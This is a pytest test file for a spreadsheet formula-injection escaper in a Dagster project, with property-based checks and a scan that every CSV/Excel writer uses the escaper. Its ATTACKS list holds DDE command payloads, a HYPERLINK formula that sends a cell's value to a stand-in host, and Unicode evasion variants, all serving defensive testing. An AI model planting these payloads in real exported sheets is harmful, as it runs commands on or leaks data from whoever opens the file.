"""Formula injection: what a sender writes never runs in a sheet that we write."""

import csv
import re
from io import BytesIO, StringIO
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dagster_project.escaping import escape_formula

PACKAGE = Path(__file__).parents[2] / "dagster_project"
ATTACKS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1",
    "＋1", "－1", "\uff20SUM(A1)", '=HYPERLINK("http://example.invalid/?"&A1,"错误")', "\t1", "\r",
]  # fmt: skip
HARMLESS = ["", "大石街道", "12", "-12", "+12.50", "-3%", "3-1", "a=b", "'=1", "x@y", "（-）"]


@pytest.mark.parametrize("text", ATTACKS, ids=ascii)
def test_what_begins_like_a_formula_gets_a_quote(text):
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_what_is_no_formula_stays_as_it_is(text):
    assert escape_formula(text) == text


@given(st.text())
def test_no_text_begins_like_a_formula_once_escaped_and_the_text_is_all_there(text):
    escaped = escape_formula(text)
    assert escaped.removeprefix("'") == text.removeprefix("'")
    assert escape_formula(escaped) == escaped
    if not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?%?", escaped):
        assert not escaped.strip().startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("text", ATTACKS, ids=ascii)
def test_a_workbook_and_a_csv_file_carry_it_as_text(text):
    book = openpyxl.Workbook()
    book.active["A1"] = escape_formula(text)
    saved = BytesIO()
    book.save(saved)
    assert openpyxl.load_workbook(saved).active["A1"].data_type == "s"
    line = StringIO()
    csv.writer(line).writerow([escape_formula(text)])
    assert line.getvalue().lstrip('"').startswith("'")


OWN_TEXT_ONLY = ("samples/", "feedback/template")
"""What writes nothing that anybody sent: drawn samples; blanks, whose live sums are formulas."""


def test_whoever_writes_sheets_escapes_or_writes_only_texts_of_ours():
    """A module that begins to write CSV or Excel files has to think of what it writes."""
    writes = re.compile(r"csv\.(writer|DictWriter)\(|xlsxwriter|openpyxl|xlwt|format csv")
    for path in PACKAGE.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        name = path.relative_to(PACKAGE).as_posix()
        if writes.search(text) and not name.startswith(OWN_TEXT_ONLY):
            assert "escape_formula" in text, name
